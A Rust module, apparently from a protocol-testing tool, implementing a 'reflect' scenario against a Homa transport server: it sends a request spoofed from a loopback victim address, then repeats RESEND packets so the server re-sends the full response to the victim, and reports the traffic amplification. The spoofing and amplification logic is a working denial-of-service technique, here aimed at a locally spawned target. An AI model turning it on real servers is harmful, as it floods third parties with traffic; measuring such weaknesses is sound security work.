//! `reflect`: a request spoofed from a victim's address (a UDP socket this
//! tool binds and counts bytes on), then RESENDs "from the victim" asking
//! for the whole response again and again. Reports the bytes the victim
//! received over the bytes the attacker sent.

use crate::craft::{self, RawSender, LOWER_HEADERS};
use crate::report::{mib, opt, Report};
use crate::target::Target;
use crate::{Env, Result};
use homa_wire::{Body, RESEND_ALL};
use serde::Serialize;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// The victim's address (any free port on it).
pub const VICTIM_IP: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 77);

/// What to send.
#[derive(Debug, Clone)]
pub struct Options {
    /// RESENDs sent after the request.
    pub resends: u32,
    /// Bytes of the spoofed request (the echo server returns as many).
    pub size: usize,
    /// Gap between RESENDs (µs).
    pub interval_us: u64,
    /// Ask for everything with the RESEND_ALL length instead of the message
    /// length.
    pub resend_all: bool,
}

impl Default for Options {
    fn default() -> Self {
        Options {
            resends: 100,
            size: 1_000_000,
            interval_us: 10_000,
            resend_all: false,
        }
    }
}

/// What happened.
#[derive(Debug, Clone, Serialize)]
pub struct ReflectReport {
    /// Bytes of the spoofed request message.
    pub request_size: usize,
    /// RESENDs sent.
    pub resends: u32,
    /// Packets the attacker sent (request DATA and RESENDs).
    pub attacker_packets: u64,
    /// IP bytes the attacker sent.
    pub attacker_bytes: u64,
    /// Of those, the RESENDs' IP bytes.
    pub resend_bytes: u64,
    /// Datagrams the victim received.
    pub victim_packets: u64,
    /// IP bytes the victim received (payload + 28 per datagram).
    pub victim_bytes: u64,
    /// victim_bytes / attacker_bytes.
    pub amplification: f64,
    /// victim_bytes / resend_bytes: what each RESEND byte buys once the
    /// request is in place.
    pub resend_amplification: f64,
    /// Bytes the server's core sent in this run (Homa headers and payload).
    pub server_bytes_sent: Option<u64>,
}

impl Report for ReflectReport {
    fn title(&self) -> String {
        format!(
            "reflect: one spoofed {} B request + {} RESENDs from a victim address",
            self.request_size, self.resends
        )
    }

    fn rows(&self) -> Vec<(String, String)> {
        vec![
            (
                "attacker sent".into(),
                format!(
                    "{} packets, {} B ({} B of RESENDs)",
                    self.attacker_packets, self.attacker_bytes, self.resend_bytes
                ),
            ),
            (
                "victim received".into(),
                format!(
                    "{} packets, {}",
                    self.victim_packets,
                    mib(self.victim_bytes)
                ),
            ),
            (
                "amplification (victim/attacker bytes)".into(),
                format!("{:.1}x", self.amplification),
            ),
            (
                "victim bytes per RESEND byte".into(),
                format!("{:.0}x", self.resend_amplification),
            ),
            ("server core bytes sent".into(), opt(self.server_bytes_sent)),
        ]
    }
}

/// Checks the options.
pub fn validate(o: &Options) -> Result<()> {
    super::check_range("--resends", o.resends, 0, 1_000_000)?;
    super::check_range("--size", o.size, 1, craft::max_message() as usize)?;
    super::check_range("--interval-us", o.interval_us, 0, 1_000_000)?;
    Ok(())
}

/// The victim's receive buffer: large enough that what the server sends is
/// counted rather than dropped by the victim's kernel.
const VICTIM_RCVBUF: usize = 64 << 20;

/// Sets a socket's receive buffer beyond `rmem_max` (root), or as large as
/// the kernel allows otherwise.
fn force_recv_buffer(sock: &UdpSocket, bytes: usize) {
    use std::os::fd::AsRawFd;
    let v = libc::c_int::try_from(bytes).unwrap_or(libc::c_int::MAX);
    // SAFETY: `sock` owns a valid descriptor for the duration of the call,
    // and the option value is a c_int whose size is passed alongside.
    let forced = unsafe {
        libc::setsockopt(
            sock.as_raw_fd(),
            libc::SOL_SOCKET,
            libc::SO_RCVBUFFORCE,
            (&v as *const libc::c_int).cast(),
            std::mem::size_of::<libc::c_int>() as libc::socklen_t,
        )
    };
    if forced != 0 {
        let _ = socket2::SockRef::from(sock).set_recv_buffer_size(bytes);
    }
}

/// Counts what arrives at the victim until stopped.
struct Victim {
    addr: SocketAddrV4,
    packets: Arc<AtomicU64>,
    bytes: Arc<AtomicU64>,
    last: Arc<std::sync::Mutex<Instant>>,
    stop: Arc<AtomicBool>,
    handle: Option<std::thread::JoinHandle<()>>,
}

impl Victim {
    fn bind() -> Result<Victim> {
        let sock = UdpSocket::bind(SocketAddrV4::new(VICTIM_IP, 0))?;
        force_recv_buffer(&sock, VICTIM_RCVBUF);
        sock.set_read_timeout(Some(Duration::from_millis(20)))?;
        let addr = match sock.local_addr()? {
            SocketAddr::V4(a) => a,
            SocketAddr::V6(_) => unreachable!("bound to an IPv4 address"),
        };
        let packets = Arc::new(AtomicU64::new(0));
        let bytes = Arc::new(AtomicU64::new(0));
        let last = Arc::new(std::sync::Mutex::new(Instant::now()));
        let stop = Arc::new(AtomicBool::new(false));
        let (p, b, l, s) = (packets.clone(), bytes.clone(), last.clone(), stop.clone());
        let handle = std::thread::spawn(move || {
            let mut buf = vec![0u8; 65_536];
            while !s.load(Ordering::Acquire) {
                if let Ok(n) = sock.recv(&mut buf) {
                    p.fetch_add(1, Ordering::Relaxed);
                    b.fetch_add((n + LOWER_HEADERS) as u64, Ordering::Relaxed);
                    *l.lock().unwrap_or_else(|e| e.into_inner()) = Instant::now();
                }
            }
        });
        Ok(Victim {
            addr,
            packets,
            bytes,
            last,
            stop,
            handle: Some(handle),
        })
    }

    fn quiet_for(&self) -> Duration {
        self.last
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .elapsed()
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Release);
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
    }
}

/// Runs the scenario against an already running target.
pub fn run_against(env: &Env, target: &Target, o: &Options) -> Result<ReflectReport> {
    validate(o)?;
    let mut raw = RawSender::new()?;
    let victim = Victim::bind()?;
    let server = target.addr_v4();
    let sent_before = target.stats()?.bytes_sent();
    let id = rand::random::<u64>() & !1 | 2;
    let request: Vec<u8> = (0..o.size).map(|i| (i % 251) as u8).collect();
    env.say(format!(
        "spoofed request of {} B from {} (victim)",
        o.size, victim.addr
    ));
    for p in craft::message_packets(victim.addr.port(), server.port(), id, &request) {
        raw.send_udp(victim.addr, server, &p)?;
    }
    std::thread::sleep(Duration::from_millis(50));
    let length = if o.resend_all {
        RESEND_ALL
    } else {
        o.size as u32
    };
    let resend = craft::control_packet(
        victim.addr.port(),
        server.port(),
        id,
        Body::Resend {
            offset: 0,
            length,
            priority: 7,
        },
    );
    let before_resends = raw.bytes;
    let t0 = Instant::now();
    for i in 0..o.resends {
        raw.send_udp(victim.addr, server, &resend)?;
        if o.interval_us > 0 {
            std::thread::sleep(Duration::from_micros(o.interval_us));
        }
        if t0.elapsed() >= Duration::from_secs(1) && i % 1000 == 0 {
            env.say(format!("{i} / {} RESENDs sent", o.resends));
        }
    }
    let resend_bytes = raw.bytes - before_resends;
    // Wait for the server to finish sending (quiet for 500 ms, at most 20 s).
    let deadline = Instant::now() + Duration::from_secs(20);
    while victim.quiet_for() < Duration::from_millis(500) && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    let sent_after = target.stats()?.bytes_sent();
    let victim_packets = victim.packets.load(Ordering::Relaxed);
    let victim_bytes = victim.bytes.load(Ordering::Relaxed);
    Ok(ReflectReport {
        request_size: o.size,
        resends: o.resends,
        attacker_packets: raw.packets,
        attacker_bytes: raw.bytes,
        resend_bytes,
        victim_packets,
        victim_bytes,
        amplification: victim_bytes as f64 / raw.bytes.max(1) as f64,
        resend_amplification: victim_bytes as f64 / resend_bytes.max(1) as f64,
        server_bytes_sent: sent_after.zip(sent_before).map(|(a, b)| a - b),
    })
}

/// Runs the scenario.
pub fn run(env: &Env, o: &Options) -> Result<ReflectReport> {
    validate(o)?;
    RawSender::new()?;
    let target = Target::spawn(&env.exe)?;
    run_against(env, &target, o)
}
